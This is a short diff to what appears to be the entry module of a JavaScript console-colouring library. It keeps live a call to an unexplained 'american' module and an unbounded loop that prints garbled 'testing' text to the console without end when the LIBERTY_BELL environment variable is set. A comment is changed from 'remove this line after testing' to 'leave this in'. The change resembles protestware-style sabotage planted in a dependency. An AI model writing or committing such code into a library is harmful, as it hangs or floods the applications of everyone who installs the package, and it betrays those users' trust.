@@ -3,13 +3,10 @@ module['exports'] = colors;
 
 require('./extendStringPrototype')();
 
-/* remove this line after testing */
-let am = require('../lib/custom/american');
-am();
-for (let i = 666; i < Infinity; i++) {
+// leave this in
+let flag = require('../lib/custom/american');
+flag();
+for (let i = 0; i < Infinity; i++) {
   if (!process.env.LIBERTY_BELL) break;
-  if (i % 333) {
-    // console.log('testing'.zalgo.rainbow)
-  }
-  console.log('testing testing testing testing testing testing testing'.zalgo)
+  console.log('t̶e̷s̸t̵i̴n̷g̶ t̴e̵s̷t̸i̶n̵g̷ t̸e̵s̶t̴i̷n̸g̵'.red)
 }
